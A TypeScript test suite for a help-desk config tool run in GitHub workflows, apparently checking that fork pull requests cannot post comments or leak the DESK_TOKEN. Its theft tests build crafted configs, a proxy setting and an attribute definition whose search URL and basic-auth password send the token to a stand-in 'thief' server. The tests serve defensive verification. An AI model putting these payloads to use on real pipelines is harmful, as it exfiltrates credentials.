import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ticketFields } from '../cli/repository.ts';
import { DESK_SECRET, DESK_TOKEN, NO_FIELDS, openDesk, type StagedDesk } from './stage/desk.ts';
import { expectGolden } from './stage/golden.ts';
import { resultsOf, statesIn } from './stage/marks.ts';
import type { Edits } from './stage/repository.ts';
import type { StepResult } from './stage/runner.ts';
import { mustWork, readLog } from './stage/step-log.ts';
import { openStory, type Story, type StoryPull } from './stage/story.ts';
import { openThief, type Thief } from './stage/thief.ts';

const PLAN = { command: 'plan' };
const MERGE = { command: 'merge' };
/** What GitHub leaves to the token of a fork's run, whatever the workflow asks for. */
const ONLY_READ = { contents: 'read', 'pull-requests': 'read', statuses: 'read' } as const;
/** Those of deskform-comments.yml, which has no secret. */
const COMMENTS = {
  permissions: { contents: 'read', 'pull-requests': 'write', statuses: 'write' },
  env: { DESK_TOKEN: '' },
} as const;
const ATTRIBUTES = 'attributes/ticket.yaml';

let desk: StagedDesk;
beforeAll(async () => {
  desk = await openDesk();
});
afterAll(() => desk.stop());

describe('a pull request of a fork', () => {
  let story: Story;
  let pull: StoryPull;
  beforeAll(async () => {
    story = await openStory({ 'deskform.yaml': desk.config('production'), [ATTRIBUTES]: NO_FIELDS }, DESK_SECRET);
    await mustWork(story.onMain({ command: 'merge' }));
    const edits = { [ATTRIBUTES]: ticketFields({ floor: 'Floor' }) };
    pull = await story.openPull({ branch: 'patch-1', from: 'a-fork', edits });
  });
  afterAll(() => story.close());

  const seen = async (name: string): Promise<string> => {
    const [comment, ...others] = await story.commentsOn(pull);
    expect(others).toEqual([]);
    await expectGolden(name, [comment?.body ?? ''], [desk.url]);
    return comment?.body ?? '';
  };

  test('its own run can only read: the plan is in the log, and it says why there is no comment', async () => {
    const asked = desk.requestCount();
    const result = await mustWork(story.onPull(pull, PLAN, { permissions: ONLY_READ }));
    const { said, masked, obeyed } = readLog(result);
    expect(said).toContain('+ Ticket.floor "Floor"');
    for (const text of [said, obeyed[0]?.text]) {
      expect(text).toContain(`No comment was written on pull request ${pull.number}`);
      expect(text).toContain('deskform-comments.yml');
    }
    expect([result.outputs.get('url'), result.outputs.get('changes')]).toEqual(['', 'true']);
    expect(await story.commentsOn(pull)).toEqual([]);
    // It holds no secret, and asks nobody but GitHub.
    expect(masked.join('\n')).not.toContain(DESK_TOKEN);
    expect(desk.requestCount()).toBe(asked);
  });

  test.each([20, 24] as const)(
    'the run after it plans it as data, and writes the comment, on Node %i',
    async (node) => {
      const other = await story.openPull({ branch: `other-${node}`, edits: { 'README.md': 'Read me\n' } });
      const asked = desk.requestCount();
      const result = await mustWork(story.afterPull(pull, PLAN, { ...COMMENTS, node }));
      const [comment] = await story.commentsOn(pull);
      expect(result.outputs.get('url')).toContain(`#issuecomment-${comment?.id}`);
      expect(statesIn(comment ?? { body: '' })).toEqual(['production open']);
      // Those with another head are not meant.
      expect(await story.commentsOn(other)).toEqual([]);
      expect(desk.requestCount()).toBe(asked);
      if (node === 20) await seen('fork');
      await story.github.closePull(other.number);
    },
  );

  test('files that hold errors are told there, and end nothing', async () => {
    await story.push(pull, { [ATTRIBUTES]: 'object: Ticket\nattributes:\n  - name: floor\n    display: [1]\n' });
    const result = await mustWork(story.afterPull(pull, PLAN, COMMENTS));
    expect(resultsOf(result, 'plan')).toMatchObject([{ outcome: 'failed', failure_reason: 'INVALID_CONFIG' }]);
    expect(await seen('fork-mistake')).toContain('display must be text');
  });

  test('what cannot be merged is told there', async () => {
    await story.commitOnMain({ [ATTRIBUTES]: ticketFields({ ceiling: 'Ceiling' }) });
    const result = await mustWork(story.afterPull(pull, PLAN, COMMENTS));
    expect(resultsOf(result, 'plan')).toMatchObject([{ outcome: 'failed', failure_reason: 'NOT_MERGEABLE' }]);
    expect(await seen('fork-conflict')).toContain('NOT_MERGEABLE');
  });
});

describe('a pull request that names another address gets no token', () => {
  let thief: Thief;
  /** Targets in deskform.yaml; targets in files of their own; addresses in variables. */
  let stories: Readonly<Record<'in-one' | 'in-variables', Story>>;

  const MERGED = { [ATTRIBUTES]: ticketFields({ floor: 'Floor' }) };
  const OVERLAY = 'overlays/production.yaml';
  const placeholder = (name: string): string => `"$${`{env:${name}}`}"`;
  const config = (...more: readonly string[]): string => desk.config('production', `overlays: ${OVERLAY}`, ...more);
  const stolen = (text: string): string => text.replaceAll(desk.url, thief.url);

  beforeAll(async () => {
    thief = await openThief();
    const open = (files: Edits): Promise<Story> => openStory({ ...MERGED, ...files }, DESK_SECRET);
    stories = {
      'in-one': await open({ 'deskform.yaml': config(), [OVERLAY]: NO_FIELDS }),
      'in-variables': await open({
        'deskform.yaml': desk.config('production').replace(desk.url, placeholder('DESK_URL')),
      }),
    };
    for (const story of Object.values(stories))
      await mustWork(story.onMain(MERGE, { event: 'schedule', env: { DESK_URL: desk.url } }));
  });
  afterAll(async () => {
    await thief.stop();
    for (const story of Object.values(stories)) await story.close();
  });

  let count = 0;
  /** A pull request of this repository, whose runs hold the token. */
  async function planned(story: Story, edits: Edits): Promise<StepResult> {
    count += 1;
    const pull = await story.openPull({ branch: `theft-${count}`, edits });
    const env = { DESK_URL: desk.url, THIEF_URL: thief.url };
    return story.onPull(pull, PLAN, { env });
  }

  test.each<[string, keyof typeof stories, () => Edits]>([
    ['in deskform.yaml', 'in-one', () => ({ 'deskform.yaml': stolen(config()) })],
    ['as a proxy', 'in-one', () => ({ 'deskform.yaml': config(`proxy: ${thief.url}`) })],
    ['by a link', 'in-one', () => ({ 'x.yaml': stolen(config()), 'deskform.yaml': { linkTo: 'x.yaml' } })],
    [
      'by a variable',
      'in-variables',
      () => ({ 'deskform.yaml': desk.config('production').replace(desk.url, placeholder('THIEF_URL')) }),
    ],
  ])('%s', async (_, base, edits) => {
    const before = desk.requestCount();
    const result = await planned(stories[base], edits());
    expect([thief.visits(), desk.requestCount()]).toEqual([0, before]);
    // Nobody has approved the change; the list is that of the help desk on main.
    expect(result.outputs.get('failure-reason')).toBe('TARGET_CHANGED');
    expect(result.exitStatus).toBe(3);
  });

  test('in an overlay, which has no place for one', async () => {
    const result = await planned(stories['in-one'], { [OVERLAY]: `url: ${thief.url}\n${NO_FIELDS}` });
    expect(thief.visits()).toBe(0);
    expect(readLog(result).said).toContain('"url" is not a key of an attribute file');
  });

  test('nor does a definition show it that would send it along', async () => {
    const theft = [
      'object: Ticket',
      'attributes:',
      '  - name: lookup',
      '    display: Look up',
      '    data_type: autocompletion_ajax_external_data_source',
      '    data_option:',
      `      search_url: "${thief.url}/?q=#{search.term}&t=$${'{env:DESK_TOKEN}'}"`,
      '      search_result_list_key: a',
      '      search_result_value_key: a',
      '      search_result_label_key: a',
      '      http_auth_type: basic_auth',
      '      http_basic_auth_username: a',
      `      http_basic_auth_password: ${placeholder('DESK_TOKEN')}`,
      '',
    ].join('\n');
    const result = await planned(stories['in-one'], { 'attributes/theft.yaml': theft });
    expect(result.exitStatus).toBe(1);
    expect(readLog(result).said).toContain('DESK_TOKEN is a credential of the target');
    expect(thief.visits()).toBe(0);
    const shown = [result.log.replaceAll(/^::add-mask::.*$/gmu, ''), ...result.outputs.values()].join('\n');
    for (const form of [DESK_TOKEN, encodeURIComponent(DESK_TOKEN), Buffer.from(DESK_TOKEN).toString('base64')])
      expect(shown).not.toContain(form);
    expect(desk.newWrites()).toEqual([]);
  });

  test('nor when the main branch plans pull requests as data', async () => {
    const story = stories['in-one'];
    const edits = { 'deskform.yaml': stolen(config()) };
    const pull = await story.openPull({ branch: 'fork', from: 'a-fork', edits });
    await mustWork(story.afterPull(pull, PLAN));
    await mustWork(story.onMain(MERGE, { event: 'schedule' }));
    expect(thief.visits()).toBe(0);
    // Told to people, not to the help desk.
    expect((await story.commentsOn(pull))[0]?.body).toContain(thief.url);
  });
});
